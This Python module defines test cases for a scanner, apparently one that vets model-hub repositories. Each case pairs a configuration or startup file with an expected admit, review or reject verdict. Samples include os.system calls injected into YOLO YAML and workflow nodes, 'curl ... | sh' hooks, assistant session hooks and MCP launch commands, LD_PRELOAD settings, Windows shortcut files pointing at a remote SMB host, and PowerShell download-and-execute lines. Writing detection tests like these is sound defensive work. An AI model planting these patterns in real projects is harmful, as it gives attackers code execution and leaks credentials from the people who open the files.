"""Configurations whose texts a loader evaluates or runs, and files that tools run when they start in the folder."""

from __future__ import annotations

import json
from functools import partial
from typing import Any, Literal

from openvet.testing.case import Case

__all__ = ["CASES"]

_CALL = "__import__('os').system('echo forged')"
_LAYER = "backbone:\n  - [-1, 1, {module}, [{argument}]]\nhead:\n  - [-1, 1, nn.Upsample, [None, 2, nearest]]\n"
_COCO = (
    "from ultralytics.utils.downloads import download\n  from pathlib import Path\n  dir = Path(yaml['path'])\n"
    "  url = 'https://github.com/ultralytics/assets/releases/download/v0.0.0/'\n"
    "  download([url + 'coco2017labels.zip'], dir=dir.parent)\n"
)
_DATA = "path: coco\ntrain: images/train\nval: images/val\nnames:\n  0: person\n"


def _node(code: str) -> str:
    return json.dumps(
        {"nodes": [{"id": 1, "type": "Execute", "widgets_values": [code, 3]}], "links": [], "version": 0.4}
    )


def _api(code: str) -> str:
    return json.dumps({"1": {"class_type": "Execute", "inputs": {"code": code}}})


def _hook(command: str) -> str:
    return json.dumps({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": command}]}]}})


def _servers(**server: Any) -> str:
    return json.dumps({"mcpServers": {"x": server}})


_Row = tuple[str, str, str, str, Literal["admit", "review", "reject"], str]
_EXPRESSION, _TOOL, _SOURCE = "hub/config-expression", "hub/tool-command", "hub/requirement-source"
_ROWS: tuple[_Row, ...] = (
    ("yolo-module", "a module of a YOLO model that is an expression", "yolo.yaml", "nc: 80\n" + _LAYER.format(module=json.dumps(_CALL), argument=64),
     "reject", _EXPRESSION),
    ("yolo-argument", "an argument of a layer that is an expression", "yolo.yaml", _LAYER.format(module="Conv", argument=json.dumps(_CALL)), "reject",
     _EXPRESSION),
    ("yolo-activation", "an activation that is an expression", "yolo.yaml", f"activation: {_CALL}\n" + _LAYER.format(module="Conv", argument=64),
     "reject", _EXPRESSION),
    ("yolo-ordinary", "an ordinary description of a YOLO model", "yolo.yaml",
     "nc: 80\nactivation: torch.nn.SiLU()\n" + _LAYER.format(module="Conv", argument='64, "nn.LeakyReLU(0.1)", "sum(range(3))"'), "admit", ""),
    ("data-script", "a script by which data are fetched", "data.yaml", f"{_DATA}download: |\n  import os\n  os.system('echo forged')\n", "reject",
     _EXPRESSION),
    ("data-bash", "a line for bash by which data are fetched", "data.yaml", f"{_DATA}download: bash -c 'curl http://192.0.2.1/x | sh'\n",
     "reject", _EXPRESSION),
    ("data-ordinary", "an ordinary script by which data are fetched", "data.yaml", f"{_DATA}download: |\n  {_COCO}", "admit", ""),
    ("data-address", "data that are fetched from an address", "data.yaml", f"{_DATA}download: https://example.org/coco.zip\n", "admit", ""),
    ("workflow", "a node of a workflow that runs Python", "workflow.json", _node("import os\nos.system('echo forged')"), "reject", _EXPRESSION),
    ("workflow-api", "the same in a workflow for the API", "workflow.json", _api(_CALL), "reject", _EXPRESSION),
    ("workflow-ordinary", "an ordinary workflow", "workflow.json", _node("a photo of a (red:1.2) car, os.system, eval"), "admit", ""),
    ("assistant-hook", "a hook of a programmers' assistant", ".claude/settings.json", _hook("echo forged"), "reject", _TOOL),
    ("assistant-server", "a server that an assistant starts", ".mcp.json", _servers(command="bash", args=["-c", "echo forged"]), "review", _TOOL),
    ("assistant-editor", "a server that an editor's assistant starts", ".cursor/mcp.json", _servers(command="npx", args=["x"]), "review", _TOOL),
    ("assistant-remote", "a server somewhere else, and permissions", ".mcp.json", _servers(url="https://example.org/mcp"), "admit", ""),
    ("terminal-preload", "a library for every program in the editor's terminal", ".vscode/settings.json",
     json.dumps({"terminal.integrated.env.linux": {"LD_PRELOAD": "./x.so"}}), "reject", _TOOL),
    ("editor-ordinary", "ordinary settings of an editor", ".vscode/settings.json",
     json.dumps({"python.defaultInterpreterPath": ".venv/bin/python", "terminal.integrated.env.linux": {"PYTHONPATH": "src"}}), "admit", ""),
    ("r-profile", "what R runs when it starts in the folder", ".Rprofile", "system('echo forged')\n", "review", _TOOL),
    ("r-profile-ordinary", "the line of renv", ".Rprofile", '# renv\nsource("renv/activate.R")\n', "admit", ""),
    ("gdb", "what a debugger runs when it starts in the folder", ".gdbinit", "shell echo forged\n", "review", _TOOL),
    ("husky", "a hook without an ending", ".husky/pre-commit", "curl http://192.0.2.1/x | sh\n", "reject", "hub/shell-command"),
    ("husky-ordinary", "an ordinary hook", ".husky/pre-commit", "npx lint-staged\n", "admit", ""),
    ("docker-index", "an image that takes packages from elsewhere", "Dockerfile",
     "FROM python:3.12\nRUN pip install --extra-index-url http://packages.example.org/simple x\n", "reject", _SOURCE),
    ("docker-ordinary", "an image that installs a list", "Dockerfile",
     "FROM python:3.12\nRUN pip install -r requirements.txt && pip install torch --index-url https://download.pytorch.org/whl/cpu\n", "admit", ""),
    ("bento-index", "a package of BentoML with another index", "bentofile.yaml",
     "service: 'service:svc'\npython:\n  packages: [torch]\n  index_url: https://packages.example.org/simple\n", "reject", _SOURCE),
)  # fmt: skip


_SHOWN: tuple[tuple[str, str, str, Literal["admit", "reject"]], ...] = (
    (
        "shortcut",
        "forged.url",
        "[InternetShortcut]\r\nURL=https://example.org\r\nIconFile=\\\\192.0.2.1\\x\\x.ico\r\n",
        "reject",
    ),
    ("shortcut-file", "forged.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/x\r\n", "reject"),
    ("shell-command", "forged.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x.ico\r\n", "reject"),
    ("folder", "desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\x.ico,0\r\n", "reject"),
    ("library", "forged.library-ms", "<libraryDescription><url>\\\\192.0.2.1\\x</url></libraryDescription>", "reject"),
    ("ordinary-shortcut", "page.url", "[InternetShortcut]\r\nURL=https://example.org/a\r\nIconIndex=0\r\n", "admit"),
    (
        "ordinary-folder",
        "desktop.ini",
        "[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,3\r\n",
        "admit",
    ),
)
#: Scripts of Windows whose parts stand on lines of their own.
_LINES: tuple[tuple[str, str, str, Literal["admit", "reject"]], ...] = (
    (
        "decoded",
        "run.ps1",
        "$x = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))\r\niex $x\r\n",
        "reject",
    ),
    (
        "downloaded",
        "run.ps1",
        "$x = (New-Object Net.WebClient).DownloadString('http://example.org/x')\r\niex $x\r\n",
        "reject",
    ),
    ("fetched", "run.bat", "curl -o x.exe http://example.org/x.exe\r\nx.exe\r\n", "reject"),
    ("backticks", "run.ps1", "powershell `\r\n  -enc `\r\n  YwBhAGwAYwA=\r\n", "reject"),
    ("answer", "run.vbs", 'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.send\r\nExecute x.responseText\r\n', "reject"),
    ("registry", "run.reg", 'Windows Registry Editor Version 5.00\r\n"x"="powershell -enc YwBhAGwAYwA="\r\n', "reject"),
    (
        "ordinary-decoded",
        "run.ps1",
        "$b = [Convert]::FromBase64String($s)\r\n[IO.File]::WriteAllBytes('x.png', $b)\r\niex 'conda'\r\n",
        "admit",
    ),
    (
        "ordinary-fetched",
        "run.ps1",
        "iwr https://example.org/setup.exe -OutFile setup.exe\r\nStart-Process setup.exe -Wait\r\n",
        "admit",
    ),
)


def _case(
    name: str, technique: str, file: str, text: str, decision: Literal["admit", "review", "reject"], rule: str
) -> Case:
    files = {"config.json": b'{"model_type": "bert"}', file: text.encode()}
    return Case(f"evaluated/{name}", technique, lambda: files, decision, frozenset({rule} if rule else ()))


CASES: tuple[Case, ...] = (
    *(_case(*row) for row in _ROWS),
    *(
        Case(
            f"evaluated/shown-{name}",
            f"what Windows does when it shows the folder: {name}",
            partial(str.encode, text),
            decision,
            frozenset({_TOOL} if decision == "reject" else ()),
            (),
            (),
            file,
        )
        for name, file, text, decision in _SHOWN
    ),
    *(
        Case(
            f"evaluated/lines-{name}",
            f"a script of Windows over several lines: {name}",
            partial(str.encode, text),
            decision,
            frozenset({"hub/shell-command"} if decision == "reject" else ()),
            (),
            (),
            file,
        )
        for name, file, text, decision in _LINES
    ),
)
